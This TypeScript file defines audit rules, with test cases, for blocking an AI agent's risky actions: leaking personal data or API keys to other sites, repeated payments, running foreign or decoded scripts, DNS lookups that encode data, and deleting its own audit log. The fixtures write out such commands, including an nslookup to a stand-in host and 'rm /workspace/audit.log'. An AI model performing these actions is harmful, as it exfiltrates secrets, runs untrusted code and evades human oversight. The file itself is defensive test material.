import type { AuditRule } from "../rule-pack.ts";

const any = { version: 1, actions: "any", meanings: "any" } as const;
const typed = (
  kinds: readonly ("name" | "email" | "phone" | "birth_date" | "address" | "password" | "api_key")[],
  place: string,
  how: "typed" | "seen" | "copied" = "typed",
) => kinds.map((kind, index) => ({ step: index + 1, kind, how, place }));
const GYM = "https://gym.example.net/trial";

/** What only the steps before can tell. */
export const RUN_RULES: readonly AuditRule[] = [
  {
    ...{ ...any, id: "data.misplaced", severity: "block", when: ["data.misplaced"] },
    reason: "data entered earlier would be sent to another domain",
    matches: [
      {
        target: "button: Book",
        url: GYM,
        formAction: "https://leads.partner.test/in",
        goal: "Book a trial lesson on gym.example.net",
        ledger: { data: typed(["name"], GYM) },
      },
    ],
    notMatches: [
      {
        target: "button: Book",
        url: GYM,
        formAction: "https://gym.example.net/api",
        goal: "Book a trial lesson on gym.example.net",
        ledger: { data: typed(["name"], GYM) },
      },
    ],
  },
  {
    ...{ ...any, id: "data.secret-elsewhere", severity: "block", when: ["data.secret-elsewhere"] },
    reason: "a secret seen, copied or filled in earlier would go where it does not belong",
    matches: [
      {
        action: "type",
        target: "textbox: Paste text",
        url: "https://paste.example.org/",
        goal: "Write a short bug report",
        content: { fromSteps: [1] },
        ledger: { data: typed(["api_key"], "https://git.example.com/cfg", "seen") },
      },
    ],
    notMatches: [
      {
        action: "type",
        target: "textbox: Paste text",
        url: "https://paste.example.org/",
        goal: "Write a short bug report",
      },
    ],
  },
  {
    ...{ ...any, id: "data.carried", severity: "block", when: ["data.carried", "!goal.unknown"] },
    reason: "personal data seen or copied earlier would go to a place that it does not belong to",
    matches: [
      {
        action: "type",
        target: "textbox: Comment",
        url: "https://forum.test/",
        goal: "Look up the opening hours",
        content: { fromSteps: [1] },
        ledger: { data: typed(["phone"], "https://crm.example.com/", "seen") },
      },
    ],
    notMatches: [
      {
        action: "type",
        target: "textbox: Phone",
        url: "https://hr.example.com/",
        goal: "Copy the phone number from crm.example.com to hr.example.com",
        content: { fromSteps: [1] },
        ledger: { data: typed(["phone"], "https://crm.example.com/", "seen") },
      },
    ],
  },
  {
    ...{ ...any, id: "identity.many", severity: "warn", when: ["identity.many"] },
    reason: "four or more kinds of personal data that the goal does not need go out together",
    matches: [
      {
        target: "button: Send",
        url: GYM,
        goal: "Ask for the opening hours on gym.example.net",
        ledger: { data: typed(["name", "email", "phone", "birth_date"], GYM) },
      },
    ],
    notMatches: [
      {
        target: "button: Send",
        url: GYM,
        goal: "Ask for the opening hours on gym.example.net",
        ledger: { data: typed(["name", "email", "phone"], GYM) },
      },
    ],
  },
  {
    ...{ ...any, id: "people.many", severity: "warn", when: ["people.many"] },
    reason: "the records of five persons are copied where the goal names one",
    matches: [
      {
        action: "copy",
        target: "row: Five",
        effect: "clipboard",
        goal: "Copy Kim's phone number",
        content: { kinds: ["phone"] },
        ledger: { copied: ["1", "2", "3", "4"] },
      },
    ],
    notMatches: [
      {
        action: "copy",
        target: "row: Four",
        effect: "clipboard",
        goal: "Copy Kim's phone number",
        content: { kinds: ["phone"] },
        ledger: { copied: ["1", "2", "3"] },
      },
    ],
  },
  {
    ...{ ...any, id: "sum.exceeded", severity: "block", when: ["sum.exceeded"] },
    reason: "together with what was paid before, the sum is higher than the goal's",
    matches: [
      {
        target: "button: Top up 10.00",
        goal: "Top up the card with 20.00",
        ledger: { done: [1, 2].map(() => ({ consequence: "pay", key: "a", amount: 10, failed: false })) },
      },
    ],
    notMatches: [
      {
        target: "button: Top up 10.00",
        goal: "Top up the card with 20.00",
        ledger: { done: [{ consequence: "pay", key: "a", amount: 10, failed: false }] },
      },
    ],
  },
  {
    ...{ ...any, id: "payment.repeated", severity: "block", when: ["payment.repeated"] },
    reason: "the same payment was made before",
    matches: [
      {
        target: "button: Pay",
        url: "https://shop.example.com/",
        goal: "Pay the invoice",
        ledger: {
          done: [{ consequence: "pay", key: "Pay\nhttps://shop.example.com/\n\n", amount: null, failed: false }],
        },
      },
    ],
    notMatches: [
      {
        target: "button: Pay",
        url: "https://shop.example.com/",
        goal: "Pay the invoice",
        ledger: {
          done: [{ consequence: "pay", key: "Pay\nhttps://shop.example.com/\n\n", amount: null, failed: true }],
        },
      },
    ],
  },
  {
    ...{ ...any, id: "count.exceeded", severity: "block", when: ["count.exceeded"] },
    reason: "more things are treated than the goal names",
    matches: [
      {
        target: "button: Delete IMG_3",
        goal: "Delete one photo",
        ledger: { done: [{ consequence: "delete", key: "Delete IMG_2", amount: null, failed: false }] },
      },
    ],
    notMatches: [
      {
        target: "button: Delete IMG_3",
        goal: "Delete two photos",
        ledger: { done: [{ consequence: "delete", key: "Delete IMG_2", amount: null, failed: false }] },
      },
    ],
  },
  {
    ...{ ...any, id: "recipient.new", severity: "block", when: ["recipient.new"] },
    reason: "after the recipients of the goal, somebody outside would receive the same",
    matches: [
      {
        target: "button: Send to press@other.test",
        url: "https://mail.example.org/d/8",
        goal: "Send the minutes to Kim and Lee",
        ledger: { done: [{ consequence: "send", key: "Send to kim@mail.example.org", amount: null, failed: false }] },
      },
    ],
    notMatches: [
      {
        target: "button: Send to lee@mail.example.org",
        url: "https://mail.example.org/d/8",
        goal: "Send the minutes to Kim and Lee",
        ledger: { done: [{ consequence: "send", key: "Send to kim@mail.example.org", amount: null, failed: false }] },
      },
    ],
  },
  {
    ...{ ...any, id: "code.foreign", severity: "block", when: ["code.foreign"] },
    reason: "program text from somebody else's page would be run",
    matches: [
      {
        action: "run",
        command: "python3 /tmp/speed.py",
        goal: "Speed up this desktop",
        ledger: { files: { "/tmp/speed.py": "foreign" } },
      },
    ],
    notMatches: [
      {
        action: "run",
        command: "wc -l /tmp/speed.py",
        goal: "Speed up this desktop",
        ledger: { files: { "/tmp/speed.py": "foreign" } },
      },
    ],
  },
  {
    ...{ ...any, id: "code.decoded", severity: "block", when: ["code.decoded"] },
    reason: "program text that was decoded in this run would be run",
    matches: [{ action: "run", command: "sh /tmp/b", ledger: { files: { "/tmp/b": "decoded" } } }],
    notMatches: [{ action: "run", command: "cat /tmp/b", ledger: { files: { "/tmp/b": "decoded" } } }],
  },
  {
    ...{ ...any, id: "lookup.coded", severity: "block", when: ["lookup.coded"] },
    reason: "the third host name under one domain that looks like data",
    matches: [
      {
        action: "run",
        command: "nslookup 4d7953aa.x.test",
        ledger: { lookups: { "x.test": ["4d7951aa.x.test", "4d7952aa.x.test"] } },
      },
    ],
    notMatches: [
      { action: "run", command: "nslookup 4d7953aa.x.test", ledger: { lookups: { "x.test": ["4d7951aa.x.test"] } } },
    ],
  },
  {
    ...{ ...any, id: "files.other", severity: "block", when: ["files.other"] },
    reason: "another file than the one that the goal names would be removed",
    matches: [{ action: "run", command: "rm plans/plan.txt", goal: "Remove the file old-plan.txt" }],
    notMatches: [
      { action: "run", command: "rm plans/old-plan.txt", goal: "Remove the file old-plan.txt" },
      { action: "run", command: "rm build.log", goal: "Tidy up" },
    ],
  },
  {
    ...{ ...any, id: "records.removed", severity: "block", when: ["records.removed"] },
    reason: "records of the run itself would be removed",
    matches: [{ action: "run", command: "rm /workspace/audit.log" }, { target: "button: Clear activity log" }],
    notMatches: [{ action: "run", command: "cat /workspace/audit.log" }],
  },
  {
    ...{ ...any, id: "failures.three", severity: "block", when: ["failures.three"] },
    reason: "three steps in a row failed: a person has to look",
    matches: [{ target: "button: Report", ledger: { failuresInRow: 3 } }],
    notMatches: [{ target: "button: Report", ledger: { failuresInRow: 2 } }],
  },
  {
    ...{ ...any, id: "target.changed", severity: "block", when: ["target.changed"] },
    reason: "the element is no longer the one that was judged",
    matches: [{ target: "button: Next", targetAtExecution: "button: Buy" }],
    notMatches: [{ target: "button: Next", targetAtExecution: "button: Next" }],
  },
  {
    ...{ ...any, id: "confirmation.changed", severity: "block", when: ["confirmation.changed"] },
    reason: "the confirmation was given for something else",
    matches: [{ target: "button: Send", confirmation: "c9 presented" }],
    notMatches: [{ target: "button: Send", confirmation: "c9 issued for send" }],
  },
  {
    ...{ ...any, id: "confirmation.used", severity: "block", when: ["confirmation.used"] },
    reason: "the confirmation was used before",
    matches: [
      {
        target: "button: Send",
        confirmation: "c9 presented",
        ledger: { confirmations: { c9: { parameters: "", atSeconds: 0, forSeconds: 300, isUsed: true } } },
      },
    ],
    notMatches: [{ target: "button: Send", confirmation: "c9 issued for send" }],
  },
  {
    ...{ ...any, id: "confirmation.expired", severity: "warn", when: ["confirmation.expired"] },
    reason: "the confirmation has expired",
    matches: [
      {
        target: "button: Send",
        url: "https://m.example.com/",
        confirmation: "c9 presented, expired",
        ledger: {
          confirmations: {
            c9: {
              parameters: '["click","button","Send","https://m.example.com/",null,null,null,null]',
              atSeconds: 0,
              forSeconds: 300,
              isUsed: false,
            },
          },
        },
      },
    ],
    notMatches: [{ target: "button: Send", confirmation: "c9 issued for send" }],
  },
];
